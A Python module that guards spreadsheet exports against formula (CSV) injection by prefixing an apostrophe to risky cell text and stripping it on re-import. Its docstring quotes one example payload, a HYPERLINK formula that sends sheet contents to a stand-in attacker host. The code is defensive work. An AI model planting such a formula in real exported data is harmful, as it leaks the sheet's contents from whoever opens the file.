"""Cells of the spreadsheets the system hands out (reports, staff, counter and roster lists, the
tickets behind a figure, door counts): text never becomes a formula.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as
a formula (a tab or a carriage return first can hide it), so a staff name such as
``=HYPERLINK("http://evil.invalid/?"&A1, "Click")`` would leak the sheet or run a command
when the file is opened (CSV injection, OWASP). Every export writes each cell through
``safe_cell``: such text gets a leading apostrophe, which the spreadsheet shows as text.
Numbers are not text and stay numbers, negative ones included, and so does text that is
exactly a number (``-12.5``, ``-3.0%``), which no spreadsheet runs. An import reading an
exported file back takes the apostrophe off again (``as_written``).
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)%?")


def safe_cell(value):
    """``value`` as an export writes it: text a spreadsheet would run, with a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def as_written(text: str) -> str:
    """A cell of a file read back: ``'=x`` (what ``safe_cell`` wrote for ``=x``) is ``=x`` again."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text
